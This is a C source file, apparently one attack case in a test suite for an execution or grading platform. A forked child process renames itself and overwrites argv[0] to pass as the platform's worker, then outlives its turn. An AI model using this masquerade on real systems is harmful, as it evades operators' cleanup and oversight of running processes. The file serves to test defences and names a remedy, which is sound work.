// SPDX-License-Identifier: MIT
/*
 * Goal:  be there when the turn is over, and be taken for the platform's own.
 * Means: a process chooses its name, and may write over its arguments, where ps(1) and pkill(1)
 *        look. Who kills by name either spares this one or kills the worker.
 */
#include "attacks/persistence/survivor.h"

#include <errno.h>
#include <string.h>
#include <sys/prctl.h>

#define NAME "ordeal-worker"

/* The arguments lie one after the other, from argv[0] on; so far as the first one reaches. */
static void rename_myself(void)
{
	size_t room = strlen(program_invocation_name);

	prctl(PR_SET_NAME, NAME);
	memset(program_invocation_name, 0, room);
	memcpy(program_invocation_name, NAME, room < sizeof(NAME) ? room : sizeof(NAME) - 1);
}

static enum claim run(const struct brief *b)
{
	pid_t child;
	int line[2];

	attempting(b);
	open_line(line);
	child = fork();
	if (child)
		return child < 0 ? denied("fork") : until_gone(line);
	rename_myself();
	slip_away();
	pause_ms(LIFE_MS);
	_exit(0);
}

const struct attack attack = {
	.effect = "a process of the student runs on under the worker's name",
	.means = "PR_SET_NAME, and the worker's name written over argv[0]",
	.oracle = "survivor",
	.id = "PERS-12",
	.attack_id = "T1036.004, T1543, CWE-459",
	.remedy = "kill by descent or by cgroup, not by name; no processes",
	.refs = (const char *const[]){ "PR_SET_NAME(2const)", "proc_pid_cmdline(5)", NULL },
	.run = run,
};
